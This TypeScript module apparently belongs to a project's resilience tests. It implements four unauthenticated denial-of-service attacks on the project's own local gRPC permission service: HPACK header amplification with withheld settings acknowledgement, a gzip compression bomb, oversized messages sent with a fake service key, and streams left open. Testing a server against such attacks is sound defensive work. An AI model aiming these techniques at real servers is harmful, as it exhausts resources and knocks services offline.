import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import {
  endHeaders,
  endStream,
  frame,
  frameType,
  grpcHeadersFrame,
  grpcMessage,
  preface,
} from '../../bench/http2-frames.ts'
import { openHttp2 } from '../../bench/http2-socket.ts'
import type { AttackTarget } from '../support/attacked-server.ts'

// Attacks over gRPC without credentials. Each runs in a process of its own.

const checkPath = '/daikon.v1.PermissionService/Check'

/** How many bytes were sent, and how often the server responded or reset a stream. */
type Sent = { bytes: number; ended: number }

type MetadataAttack = { streams: number; seconds: number; header: string; copies: number }

/**
 * Opens streams without a message. A header with 4,000 commas is in the dynamic table of HPACK
 * (RFC 7541), so that each further copy takes one byte. The client never acknowledges the settings
 * of the server, which therefore do not apply (RFC 9113, section 6.5.3).
 */
export async function sendMetadata({
  grpcPort,
  options,
}: AttackTarget<MetadataAttack>): Promise<Sent> {
  const { streams, seconds, header, copies } = options
  const value = ','.repeat(4000)
  const indexed = Buffer.from([0x80 | 62])
  const first = Buffer.concat([Buffer.from([0x40]), literal(header), literal(value)])
  const path = Buffer.concat([Buffer.from([4]), literal(checkPath)])
  const type = Buffer.concat([Buffer.from([0x0f, 31 - 15]), literal('application/grpc')])
  const authority = Buffer.concat([Buffer.from([1]), literal('a')])
  const pseudo = Buffer.concat([Buffer.from([0x83, 0x86]), path, authority])
  const copied = Buffer.concat(Array.from({ length: copies }, () => indexed))
  const heads = Array.from({ length: streams }, (_, index) => {
    const block = [pseudo, type, index === 0 ? first : indexed, copied]
    return frame(frameType.headers, endHeaders, index * 2 + 1, Buffer.concat(block))
  })
  const bytes = Buffer.concat([preface, ...heads])
  const { socket, ended } = await openSocket(grpcPort)
  socket.write(bytes)
  await sleep(seconds * 1000)
  socket.destroy()
  return { bytes: bytes.length, ended: ended() }
}

/** Sends messages of two million empty items, compressed to four kilobytes. */
export async function sendCompressed({
  grpcPort,
  options: { messages, seconds },
}: AttackTarget<{ messages: number; seconds: number }>): Promise<Sent> {
  const message = grpcMessage(gzipSync(emptyItems(3.9e6)))
  message.writeUInt8(1, 0)
  return sendMessages(grpcPort, {
    messages,
    seconds,
    message,
    headers: { 'grpc-encoding': 'gzip' },
  })
}

/** Sends messages of two million empty items, with a service key that does not exist. */
export async function sendLarge({
  grpcPort,
  options: { messages, seconds },
}: AttackTarget<{ messages: number; seconds: number }>): Promise<Sent> {
  const path = '/daikon.v1.AccessService/EvaluateBatch'
  const headers = { 'x-service-key': `dk_${'x'.repeat(40)}` }
  const message = grpcMessage(emptyItems(3.9e6, 5))
  return sendMessages(grpcPort, { messages, seconds, message, headers, path })
}

/** Opens streams whose complete message is not followed by the end of the stream. */
export async function leaveOpen({
  grpcPort,
  options: { connections, streams, bytes, seconds },
}: AttackTarget<{
  connections: number
  streams: number
  bytes: number
  seconds: number
}>): Promise<Sent> {
  let ended = 0
  const message = bytes > 0 ? grpcMessage(emptyItems(bytes)) : undefined
  const sockets = await Promise.all(
    Array.from({ length: connections }, async () => {
      const socket = await openHttp2(grpcPort, {
        data: () => {},
        end: () => {
          ended += 1
        },
        chunkRead: () => {},
      })
      const head = grpcHeadersFrame(checkPath)
      for (let index = 0; index < streams; index += 1) {
        const stream = socket.open(head)
        if (message) socket.send(stream, message, false)
      }
      socket.flush()
      return socket
    }),
  )
  await sleep(seconds * 1000)
  for (const socket of sockets) socket.close()
  return { bytes: connections * streams * (bytes + 150), ended }
}

async function sendMessages(
  port: number,
  {
    messages,
    seconds,
    message,
    headers,
    path = checkPath,
  }: {
    messages: number
    seconds: number
    message: Buffer
    headers: Record<string, string>
    path?: string
  },
): Promise<Sent> {
  let ended = 0
  const { promise, resolve } = Promise.withResolvers<void>()
  const socket = await openHttp2(port, {
    data: () => {},
    end: () => {
      ended += 1
      if (ended === messages) resolve()
    },
    chunkRead: () => {},
  })
  for (let index = 0; index < messages; index += 1)
    socket.send(socket.open(grpcHeadersFrame(path, headers)), message, true)
  socket.flush()
  await Promise.race([promise, sleep(seconds * 1000)])
  socket.close()
  return { bytes: messages * message.length, ended }
}

/** A list of empty messages, two bytes each. */
function emptyItems(bytes: number, field = 1): Buffer {
  return Buffer.alloc(bytes, Buffer.from([(field << 3) | 2, 0]))
}

/** Encodes a string of HPACK (RFC 7541, section 5.2). */
function literal(text: string): Buffer {
  const length = []
  let rest = text.length
  if (rest < 127) length.push(rest)
  else {
    length.push(127)
    for (rest -= 127; rest >= 128; rest >>= 7) length.push((rest & 127) | 128)
    length.push(rest)
  }
  return Buffer.concat([Buffer.from(length), Buffer.from(text)])
}

/** Opens a socket that counts the streams that the server ends. */
async function openSocket(port: number): Promise<{ socket: Socket; ended: () => number }> {
  const socket = connect(port, '127.0.0.1').setNoDelay()
  let rest = Buffer.alloc(0)
  let ended = 0
  socket.on('data', (chunk: Buffer) => {
    rest = Buffer.concat([rest, chunk])
    while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
      const [type = 0, flags = 0] = rest.subarray(3, 5)
      if (type === frameType.reset || (type <= frameType.headers && flags & endStream)) ended += 1
      rest = rest.subarray(9 + rest.readUIntBE(0, 3))
    }
  })
  await once(socket, 'connect')
  socket.on('error', () => {})
  return { socket, ended: () => ended }
}
